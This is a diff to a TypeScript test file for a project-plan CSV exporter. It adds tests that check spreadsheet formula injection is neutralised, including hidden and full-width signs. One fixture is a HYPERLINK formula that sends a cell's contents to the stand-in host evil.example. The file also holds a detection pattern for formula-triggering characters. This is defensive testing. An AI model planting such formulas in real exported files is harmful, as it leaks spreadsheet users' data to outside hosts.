@@ -52,6 +52,7 @@ describe('the plan as a generic CSV', () => {
       'Start',
       'Finish',
       'Milestone',
+      'Done',
       'Predecessors',
       'Data item',
       'Systems',
@@ -151,7 +152,9 @@ describe('the Asana preset', () => {
     })
     expect(goLive['Blocked By (Dependencies)']![0]).toBe(
       'Interface: Tray ID between Traceability system and EHR, Train OR nurse: Future state, Train SPD supervisor: Future state, ' +
-        'Train SPD technician: Future state, End interim double documentation: Load contents, Go-live support: Barcode scanning alongside the paper log',
+        'Train SPD technician: Future state, End interim double documentation: Load contents, ' +
+        'Sign-off: SPD technician on Future state, Sign-off: SPD supervisor on Future state, Sign-off: OR nurse on Future state, ' +
+        'Go-live support: Barcode scanning alongside the paper log',
     )
   })
 })
@@ -177,5 +180,37 @@ describe('formula injection', () => {
     expect(generic.map((r) => r.Phase![0])).toContain("Phase 1: -Barcode phase")
     expect(generic.map((r) => r['Data item']![0])).toContain("'=1+1 Tray ID")
     expect(generic.map((r) => r.Systems![0])).toContain("'\tTraceability; \rEHR")
+  })
+})
+
+describe('formula injection hidden behind spaces, line breaks and full-width signs', () => {
+  // Spreadsheets trim leading spaces and line breaks before they look for a formula, and Excel in
+  // East Asian locales reads ＝ ＋ － ＠ as = + - @.
+  const evaluated = /^[\s\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/
+
+  it('given names that hide a sign, then every preset writes them as text, with a leading quote', () => {
+    const project = loadProject('plan/plan.hostile-hidden-signs.flowstate.json')
+    const result = planProject(project, { from: 'st_cur', to: 'st_fut' })
+    if (!result.ok) throw new Error(result.error)
+    for (const preset of ['generic', 'jira', 'asana'] as const) {
+      let neutralised = 0
+      const { rows } = parseCsv(planToCsv(result.plan, { preset, start: '2026-11-02' }))
+      for (const cell of rows.flat()) {
+        expect(cell, `${preset}: ${JSON.stringify(cell)}`).not.toMatch(evaluated)
+        if (/^'/.test(cell) && evaluated.test(cell.slice(1))) neutralised++
+      }
+      expect(neutralised, preset).toBeGreaterThan(0)
+    }
+    const generic = records(parseCsv(planToCsv(result.plan)).rows)
+    expect(generic.map((r) => r.Role![0])).toContain(`'   =HYPERLINK("http://evil.example/?q="&A1,"Open")`)
+    expect(generic.map((r) => r.Role![0])).toContain("'\n@SUM(A1:A9)")
+    expect(generic.map((r) => r.Role![0])).toContain("'\uff1d1+1 OR nurse")
+    expect(generic.map((r) => r['Data item']![0])).toContain("'\uff0d2+3 Tray ID")
+  })
+
+  it('leaves text that only contains a sign later on as it is', () => {
+    expect(csvField('Scan tray = done')).toBe('Scan tray = done')
+    expect(csvField('Tray\nthen +1')).toBe('"Tray\nthen +1"')
+    expect(csvField(' \uff1dx')).toBe("' \uff1dx")
   })
 })
